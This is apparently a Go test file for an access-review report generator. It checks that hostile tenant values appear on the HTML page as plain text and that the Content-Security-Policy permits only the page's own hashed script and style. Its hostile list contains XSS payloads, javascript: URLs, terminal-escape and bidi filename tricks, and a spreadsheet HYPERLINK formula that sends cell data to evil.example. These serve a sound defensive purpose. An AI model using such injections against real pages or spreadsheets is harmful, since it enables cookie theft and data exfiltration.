package htmlreport

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/rolecall/rolecall/facade"
	"github.com/rolecall/rolecall/report"
	"github.com/rolecall/rolecall/review"
)

// The hostile values of the table's and CSV's tests (report_test.go,
// evidence_test.go), and markup meant for a page.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`javascript:alert(document.cookie)`,
	`' onmouseover='alert(1)`,
	"Mallory\x1b]8;;http://evil.example\x07\u202eexe.txt",
	"evil\x1b[2Jname\u202egnp.exe",
	"z\u200bero@x.com",
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`</style><style>body{display:none}</style>`,
	`{{.CSP}}`,
}

func run() *report.Run {
	t := time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)
	return &report.Run{Schema: report.RunSchema, ID: "r1", Started: t, Finished: t, Version: "test",
		Providers: []report.ProviderRun{{Provider: "cortex", Host: "h", Status: report.StatusComplete, Assignments: 2,
			Users: 1, SpecSHA256: "abc", SpecParts: map[string]string{"b.yaml": "2", "a.yaml": "1"}}}}
}

// page is a review's page whose every value a provider gives is h.
func page(h string) *Page {
	acct := &review.Account{Provider: "cortex", Principal: facade.User, UserID: h, Email: h, Name: h, Status: h,
		Roles: []review.Role{{ID: h, Name: h, Scope: h, Privileged: true, Held: facade.ThroughGroup, Via: h}}}
	key := &review.Account{Provider: "cortex", Principal: facade.APIKey, UserID: h + "k", OwnerPerson: h,
		Roles: []review.Role{{ID: "r", Name: h}}}
	people := []review.Person{{Key: h, Name: h, Accounts: []*review.Account{acct}, Owns: []*review.Account{key}}}
	findings := []review.Finding{
		{Kind: review.Dormant, Person: h, Provider: "cortex", Principal: facade.User, UserID: h, Owner: h, Email: h,
			Roles: []string{h}, Reason: h},
		{Kind: review.NoEmail, Person: h, Provider: h, Principal: facade.PrincipalKind(h), UserID: h,
			Reason: h, Exemption: &review.Exemption{Type: h, Reason: h}},
	}
	rows := []report.Row{{Provider: "cortex", UserID: h, Email: h, Name: h, RoleID: h, RoleName: h, Scope: h,
		Via: h, Held: h, Status: h, LastActivity: h, PrincipalKind: h, Privileged: true}}
	return &Page{Title: "Access review", Run: run(), Findings: findings, People: people, Rows: rows}
}

func write(t *testing.T, p *Page) string {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, Write(&b, p))
	return b.String()
}

// shape is the page's elements in document order, each with its
// attributes' names: what a value injected as markup would change.
func shape(t *testing.T, page string) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	require.NoError(t, err)
	var out []string
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		e := n.Data
		for _, a := range n.Attr {
			e += " " + a.Key
			if strings.Contains(strings.ToLower(a.Val), "javascript:") && a.Key != "value" && !strings.HasPrefix(a.Key, "data-") {
				t.Errorf("<%s %s=%q>: a javascript: URL", n.Data, a.Key, a.Val)
			}
		}
		out = append(out, e)
	}
	return out
}

// TestHostileValuesAreText: a tenant whose every value is markup, script,
// a javascript: link, bidi or control characters gives a page with no
// element, attribute or script of its own: the same elements as a page of
// plain values, one script and one style (the page's), no link, and the
// values shown as text with control and bidi characters as visible
// escapes.
func TestHostileValuesAreText(t *testing.T) {
	plain := shape(t, write(t, page("plain")))
	for _, h := range hostile {
		out := write(t, page(h))
		assert.Equal(t, plain, shape(t, out), "%q: the page's elements and attributes only", h)
		for _, bad := range []string{"\x1b", "\u202e", "\u200b", "\x07"} {
			assert.False(t, strings.Contains(out, bad), "%q: the page holds %q", h, bad)
		}
	}
	out := write(t, page(hostile[0]))
	assert.Contains(t, out, `&lt;script&gt;alert(1)&lt;/script&gt;`)
	out = write(t, page(hostile[4]))
	assert.Contains(t, out, `Mallory\x1b]8;;http://evil.example\x07\u202eexe.txt`, "shown as visible escapes")
}

// TestSameBytes: the same report gives the same page, byte for byte
// (maps are walked in order: the spec parts, the summary's counts).
func TestSameBytes(t *testing.T) {
	first := write(t, page("ada@example.com"))
	for range 20 {
		require.Equal(t, first, write(t, page("ada@example.com")))
	}
	assert.Less(t, strings.Index(first, "a.yaml"), strings.Index(first, "b.yaml"))
}

// TestCSPNamesTheInlineCode: the Content-Security-Policy allows nothing
// but the page's own style and script, by hashes of exactly what the page
// holds, so a browser runs them and nothing else.
func TestCSPNamesTheInlineCode(t *testing.T) {
	out := write(t, page("x"))
	m := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindStringSubmatch(out)
	require.NotNil(t, m)
	s := regexp.MustCompile(`(?s)<script>(.*?)</script>`).FindStringSubmatch(out)
	require.NotNil(t, s)
	sum := func(x string) string {
		h := sha256.Sum256([]byte(x))
		return "sha256-" + base64.StdEncoding.EncodeToString(h[:])
	}
	csp := regexp.MustCompile(`http-equiv="Content-Security-Policy" content="([^"]*)"`).FindStringSubmatch(out)
	require.NotNil(t, csp)
	policy := strings.NewReplacer("&#39;", "'", "&#43;", "+").Replace(csp[1])
	assert.Equal(t, "default-src 'none'; style-src '"+sum(m[1])+"'; script-src '"+sum(s[1])+
		"'; img-src 'none'; base-uri 'none'; form-action 'none'", policy)
	assert.NotContains(t, s[1], "innerHTML", "the script builds no markup from text")
	assert.NotContains(t, s[1], "fetch(", "the script loads nothing")
}

// TestSummaryAndSections: the summary counts the findings by kind and
// disposition and the privileged principals by provider; each finding has
// a row named by its id and its filters' values; a people or access page
// has only its sections.
func TestSummaryAndSections(t *testing.T) {
	p := page("ada@example.com")
	out := write(t, p)
	ids := review.FindingIDs(p.Findings)
	for _, id := range ids {
		assert.Contains(t, out, `<tr id="f-`+id+`"`)
	}
	assert.Contains(t, out, `data-findings-sha256="`+review.FindingsDigest(p.Findings)+`"`)
	assert.Contains(t, out, `<tr data-kind="dormant-privileged"><td>dormant-privileged</td><td class="n open" data-count="open">1</td>`)
	assert.Contains(t, out, `<tr data-kind="no-email"><td>no-email</td><td class="n" data-count="open">0</td><td class="n" data-count="exempt">1</td>`)
	assert.Contains(t, out, `<tr><td>cortex</td><td>user</td><td class="n priv">1</td></tr>`)
	assert.Contains(t, out, `id="findings"`)
	assert.Contains(t, out, `id="people"`)

	people := write(t, &Page{Title: "People", Run: run(), People: p.People})
	assert.NotContains(t, people, `id="findings"`)
	assert.NotContains(t, people, `id="assignments"`)
	assert.Contains(t, people, `id="people"`)
	assert.Contains(t, people, `class="role priv">ada@example.com (ada@example.com) via ada@example.com*</span>`)

	access := write(t, &Page{Title: "Access report", Run: run(), Rows: p.Rows})
	assert.Contains(t, access, `id="assignments"`)
	assert.NotContains(t, access, `id="people"`)
	assert.Contains(t, access, `<tr><td>cortex</td><td>ada@example.com</td><td class="n priv">1</td></tr>`,
		"privileged principals counted from the rows")
	assert.Contains(t, access, "<h2>Run record</h2>")
}
